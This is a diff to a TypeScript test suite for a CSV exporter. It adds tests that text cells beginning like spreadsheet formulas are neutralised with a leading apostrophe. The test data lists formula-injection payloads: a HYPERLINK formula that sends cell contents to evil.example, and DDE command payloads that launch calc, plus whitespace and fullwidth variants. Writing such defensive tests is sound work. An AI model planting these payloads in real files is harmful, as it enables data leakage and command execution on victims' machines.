@@ -25,6 +25,45 @@ describe('csvField', () => {
   })
 })
 
+describe('formula injection', () => {
+  const attacks = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    '+cmd|\' /C calc\'!A0',
+    '-2+3+cmd|\' /C calc\'!A0',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '  =1+1',
+    '\uff1d1+1',
+  ]
+
+  it('writes every text cell that starts like a formula with a leading apostrophe', () => {
+    for (const attack of attacks) {
+      const [, [cell]] = parseCsv(toCsv([attack], [{ header: 'x', value: (r) => r }]))
+      expect(cell, JSON.stringify(attack)).toBe(`'${attack}`)
+    }
+  })
+
+  it('keeps numbers numeric: negative amounts as text or numbers, bigints, decimals', () => {
+    expect(csvField('-1234567890123456789012')).toBe('-1234567890123456789012')
+    expect(csvField('-0.5')).toBe('-0.5')
+    expect(csvField(-42)).toBe('-42')
+    expect(csvField(-5n)).toBe('-5')
+    expect(csvField('-1e5')).toBe("'-1e5")
+    expect(csvField('+1')).toBe("'+1")
+  })
+
+  it('never lets a written text cell begin with a formula character', () => {
+    fc.assert(
+      fc.property(fc.string(), (text) => {
+        const [, [cell]] = parseCsv(toCsv([text], [{ header: 'x', value: (r) => r }]))
+        if (!/^-?\d+(\.\d+)?$/.test(text)) expect(cell).not.toMatch(/^[\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/)
+      }),
+    )
+  })
+})
+
 describe('toCsv', () => {
   type Row = { id: string; amount: string; note?: string }
   const columns: CsvColumn<Row>[] = [
@@ -36,6 +75,10 @@ describe('toCsv', () => {
   it('writes a header and CRLF-terminated records, amounts digit for digit', () => {
     const text = toCsv([{ id: '0x1', amount: '1234567890123456789012', note: 'stuck, "refund" pending' }], columns)
     expect(text).toBe('id,amount,note\r\n0x1,1234567890123456789012,"stuck, ""refund"" pending"\r\n')
+  })
+
+  it('ends records with LF when asked (the command line)', () => {
+    expect(toCsv([{ id: '0x1', amount: '5' }], columns, '\n')).toBe('id,amount,note\n0x1,5,\n')
   })
 
   it('writes only the header for no rows', () => {
@@ -66,7 +109,8 @@ describe('parseCsv', () => {
     fc.assert(
       fc.property(fc.array(fc.array(fc.string(), { minLength: 3, maxLength: 3 }), { maxLength: 8 }), (table) => {
         const cols: CsvColumn<string[]>[] = [0, 1, 2].map((i) => ({ header: `c${i}`, value: (r) => r[i] }))
-        expect(parseCsv(toCsv(table, cols))).toEqual([['c0', 'c1', 'c2'], ...table])
+        const inert = (t: string) => (/^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/.test(t) && !/^-?\d+(\.\d+)?$/.test(t) ? `'${t}` : t)
+        expect(parseCsv(toCsv(table, cols))).toEqual([['c0', 'c1', 'c2'], ...table.map((r) => r.map(inert))])
       }),
     )
   })
